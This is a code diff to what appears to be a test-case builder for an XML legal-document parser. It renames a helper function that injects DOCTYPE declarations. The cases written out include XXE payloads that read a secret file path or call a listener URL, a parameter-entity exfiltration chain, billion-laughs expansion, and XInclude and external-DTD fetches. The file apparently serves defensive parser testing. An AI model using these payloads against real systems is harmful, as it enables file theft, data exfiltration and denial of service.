@@ -75,7 +75,8 @@ def _after_declaration(base: bytes) -> tuple[bytes, bytes]:
     return head + b"?>\n", rest
 
 
-def _with_doctype(base: bytes, doctype: str, reference: str = "") -> bytes:
+def with_doctype(base: bytes, doctype: str, reference: str = "") -> bytes:
+    """The document with a DOCTYPE, and an entity reference in its title."""
     head, rest = _after_declaration(base)
     if reference:  # the entity is used in the title: its value would show there
         rest = rest.replace(b"<docTitle>", f"<docTitle>{reference}".encode(), 1)
@@ -101,23 +102,23 @@ def build(case: str, base: bytes, secret_path: str, listener_url: str) -> bytes:
             base, b"<b>" * (MAX_DEPTH + 1) + b"x" + b"</b>" * (MAX_DEPTH + 1)
         ),
         "too_many_elements": lambda: _in_title(base, b"<eol/>" * (MAX_ELEMENTS + 1)),
-        "external_entity_file": lambda: _with_doctype(
+        "external_entity_file": lambda: with_doctype(
             base,
             f'<!DOCTYPE akomaNtoso [<!ENTITY xxe SYSTEM "file://{secret_path}">]>\n',
             "&xxe;",
         ),
-        "external_entity_http": lambda: _with_doctype(
+        "external_entity_http": lambda: with_doctype(
             base,
             f'<!DOCTYPE akomaNtoso [<!ENTITY xxe SYSTEM "{listener_url}/xxe">]>\n',
             "&xxe;",
         ),
-        "parameter_entity": lambda: _with_doctype(
+        "parameter_entity": lambda: with_doctype(
             base,
             f'<!DOCTYPE akomaNtoso [<!ENTITY % pe SYSTEM "{listener_url}/pe.dtd">'
             f' %pe; <!ENTITY % file SYSTEM "file://{secret_path}">]>\n',
             "&leak;",
         ),
-        "billion_laughs": lambda: _with_doctype(
+        "billion_laughs": lambda: with_doctype(
             base,
             f'<!DOCTYPE akomaNtoso [<!ENTITY lol0 "lol">{laughs}]>\n',
             "&lol9;",
@@ -130,7 +131,7 @@ def build(case: str, base: bytes, secret_path: str, listener_url: str) -> bytes:
             b'XInclude" href="' + listener_url.encode() + b'/xi"/></proprietary>',
             1,
         ),
-        "external_dtd": lambda: _with_doctype(
+        "external_dtd": lambda: with_doctype(
             base, f'<!DOCTYPE akomaNtoso SYSTEM "{listener_url}/akn.dtd">\n'
         ),
     }
